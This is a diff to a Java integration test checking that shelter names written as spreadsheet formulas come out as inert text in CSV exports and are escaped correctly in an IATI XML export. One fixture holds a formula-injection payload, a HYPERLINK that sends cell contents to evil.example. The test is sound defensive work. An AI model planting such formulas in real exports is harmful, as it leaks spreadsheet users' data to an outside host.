@@ -13,7 +13,8 @@ import org.shelters.events.shelters.Corridor;
 
 /**
  * A shelter registered with a name a spreadsheet would run as a formula reaches both CSV exports
- * as text: a leading single quote, in double quotes; the JSON reports show it as it is.
+ * as text: a leading single quote, in double quotes; the JSON reports and the IATI file (escaped
+ * XML) show it as it is.
  */
 class FormulaInjectionIT extends ReportingIT {
 
@@ -21,7 +22,7 @@ class FormulaInjectionIT extends ReportingIT {
     static final String CELL = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Albergue\"\")\"";
 
     @Test
-    void aFormulaNameIsTextInEveryExport() {
+    void aFormulaNameIsTextInEveryExport() throws Exception {
         String donor = "-" + id("donor");
         String shelterId = id("shelter");
         LocalDate today = today();
@@ -43,5 +44,17 @@ class FormulaInjectionIT extends ReportingIT {
         assertThat(request("GET", "/api/reports/exports/3w.csv?donor=" + donor, as("ANALYST")).body())
                 .as("a donor starting with '-' is text too").contains(",\"'" + donor + "\",");
         assertThat(get("/api/reports/shelters/" + shelterId).get("data").get("name").asString()).isEqualTo(NAME);
+        // in the IATI file the name is text too: quotes and & escaped by the XML writer, read back as they were
+        String xml = request("GET", "/api/reports/exports/iati-activities.xml?donor=" + donor, as("ANALYST")).body();
+        assertThat(xml).contains("&amp;A1").doesNotContain("&A1");
+        assertThat(xpath(xml, "//participating-org[@role='4']/narrative")).isEqualTo(NAME);
+    }
+
+    private static String xpath(String xml, String path) throws Exception {
+        javax.xml.parsers.DocumentBuilderFactory factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
+        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+        org.w3c.dom.Document doc = factory.newDocumentBuilder()
+                .parse(new java.io.ByteArrayInputStream(xml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        return javax.xml.xpath.XPathFactory.newInstance().newXPath().evaluate(path, doc);
     }
 }
